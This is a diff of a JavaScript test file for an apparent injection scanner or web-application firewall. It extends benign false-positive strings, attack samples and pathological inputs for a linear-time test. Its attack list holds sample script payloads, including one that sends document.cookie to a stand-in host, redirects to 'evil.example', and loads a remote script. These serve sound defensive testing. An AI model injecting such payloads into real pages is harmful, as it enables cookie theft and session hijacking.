@@ -109,6 +109,7 @@ test('941160 leaves placeholders, generics, math, e-mail and chat markup alone',
     '<mailto:a@example.com>', '<@U024BE7LH>', '<#C024BE7LR|general>', '<!here>', '<!channel>', '<!subteam^S012|team>',
     '<<EOF', '<-- back', '->', '=> <=', '**bold** and _it_ [x](https://example.com) `code`', '# Heading\n\n> quote',
     'v1.2 <= v < 2.0', '<RETURN>', '<Ctrl>+<C>', '<name>', '<user_id>', '<YYYY-MM-DD>', '<br.com>', 'xmlns', 'the xmlns attribute',
+    '/buckets/<bucket>/<object>', 'frame=<frame>', 'press <button>', 'geometry=<polygon>', '<env:Envelope>', '<o:p>',
   ];
   for (const b of benign) assert.deepEqual(fired(b, 1, 'query'), [], `false positive: ${b}`);
   assert.equal(scanHtmlInjection('<access_token_value>'), null);
@@ -123,7 +124,7 @@ test('941371 JS statements in URL-borne values, not in JSON bodies', () => {
   const attacks = [
     'navigator.sendBeacon("//x.example", document.cookie)', 'navigator.vibrate(200)', 'document.write("x")',
     'window.location.href = "//evil.example"', 'location.replace("//evil.example")', 'localStorage.setItem("k", 1)',
-    'top.document.body.innerHTML="x"', '$("#login").submit()', "$('a.more').on('click', go)", 'jQuery(document).ready(go)',
+    'top.document.body.innerHTML="x"', '$("#login").submit()', "$('a.more').on('click', go)", 'jQuery(document).ready(go)', 'jQuery("#x")',
     '$(function(){ go() })', '$.getScript("//x.example/a.js")', 'function go(){', 'function (a, b) { return a }',
     'x.on("y", function() {', 'history.pushState({}, "", "/x")',
   ];
@@ -159,7 +160,7 @@ test('linear time on 64 KiB pathological input', () => {
     // HTML-injection, JS-statement, entity-split and bracket-separator paths
     '<code ', '<code a', '</div', '<!', '<!-', '<?', '<x xmlns', '<x x', 'xmlns:a=', 'xmlns:', '<img[a]', '<img[a', '<a[',
     '<scr&#x9;', '<s&#', '<i\t', 'document.', 'window.a', '.a', '$(', '$("', '$.a', 'jQuery(', 'function(', 'function f(a,',
-    'function', 'List<Object', '<b x="', '<x </', '<x <',
+    'function', 'List<Object', '<b x="', '<x </', '<x <', 'window.', 'top.document.', '$("$(\'', '<code x', '<x x x',
   ].map(unit);
   for (const s of inputs) {
     const t0 = performance.now();
